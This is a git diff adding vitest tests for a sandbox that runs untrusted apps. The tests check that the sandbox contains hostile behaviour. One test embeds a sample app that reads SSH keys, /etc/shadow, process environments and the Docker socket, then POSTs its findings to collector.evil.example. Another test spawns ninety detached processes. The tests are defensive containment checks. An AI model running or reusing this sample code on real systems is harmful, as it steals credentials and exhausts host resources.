@@ -1,10 +1,11 @@
 import { existsSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
-import { tmpdir } from 'node:os'
+import { homedir, tmpdir } from 'node:os'
 import { join } from 'node:path'
 import { afterAll, describe, expect, test } from 'vitest'
 import { readCatalogue } from '#database/read'
 import { openFacts } from '#facts/cache'
 import { buildModel } from '#model/build'
+import { prove } from '#prove'
 import { readSource } from '#source/read'
 import { openLab } from './open.js'
 import type { OpenLab } from './run/open-lab.js'
@@ -92,6 +93,54 @@ describe.skipIf(!ready)('lab', () => {
     } finally {
       await lab.close()
     }
+  })
+
+  test(
+    'shows an app that listens everywhere, phones out and looks for keys a world in which there is nothing',
+    { timeout: LONG },
+    async () => {
+      const keys = mkdtempSync(join(homedir(), '.ssh-'))
+      writeFileSync(join(keys, 'id_ed25519'), 'TOP SECRET')
+      const ports = [22, 8080, 9999, 31_337]
+      const lab = await boot(
+        'nosy',
+        serve(`
+        const found = []
+        for (const port of ${JSON.stringify(ports)}) await new Promise(done => http.createServer((_, answer) => answer.end('mine')).on('error', done).listen(port, '0.0.0.0', done))
+        const look = path => { try { found.push(fs.readFileSync(path, 'utf8')) } catch { try { found.push(...fs.readdirSync(path)) } catch {} } }
+        for (const path of ['${keys}', '${keys}/id_ed25519', require('node:os').homedir() + '/.ssh', '/root/.ssh', '/home', '/etc/shadow', '/proc/1/environ', '/var/run/docker.sock']) look(path)
+        const told = await fetch('https://collector.evil.example/take', { method: 'POST', body: 'all I found' }).then(r => r.status, e => String(e.cause))
+        const bare = await fetch('http://203.0.113.7:8443/', { signal: AbortSignal.timeout(2000) }).then(() => 'reached', () => 'nothing')
+        response.end(JSON.stringify({ found, told, bare }))`),
+      )
+      try {
+        const { json } = await lab.send({ actor: 'nobody', method: 'GET', path: '/' })
+        expect(json).toMatchObject({ bare: 'nothing' })
+        expect(JSON.stringify(json)).not.toMatch(/TOP SECRET|id_ed25519|root:/)
+        // What it tells others is written down, and goes nowhere.
+        expect(await lab.calls()).toContainEqual(expect.objectContaining({ host: 'collector.evil.example', body: 'all I found' }))
+        for (const port of ports)
+          expect(
+            await fetch(`http://127.0.0.1:${port}/`).then(
+              answer => answer.text(),
+              () => 'nothing',
+            ),
+          ).not.toBe('mine')
+      } finally {
+        await lab.close()
+        rmSync(keys, { recursive: true, force: true })
+      }
+    },
+  )
+
+  test('the report says what an app was ended for', { timeout: LONG }, async () => {
+    const folder = join(root, 'report')
+    mkdirSync(folder)
+    writeFileSync(join(folder, 'package.json'), JSON.stringify({ name: 'report', scripts: { start: 'node server.js' } }))
+    const fork = "for (let i = 0; i < 90; i++) spawn('sleep', ['600'], { detached: true, stdio: 'ignore' }).on('error', () => {})"
+    writeFileSync(join(folder, 'server.js'), serve(`${fork}; setTimeout(() => response.end('up'), 3000)`))
+    const { report } = await prove(folder, { limits: { processes: 60 } })
+    expect(report.lab?.contained ?? [report.lab?.why]).toMatchObject([expect.stringMatching(/ran \d+ processes/)])
   })
 
   test('ends an app that multiplies, ignores SIGTERM and leaves daemons', { timeout: LONG }, async () => {
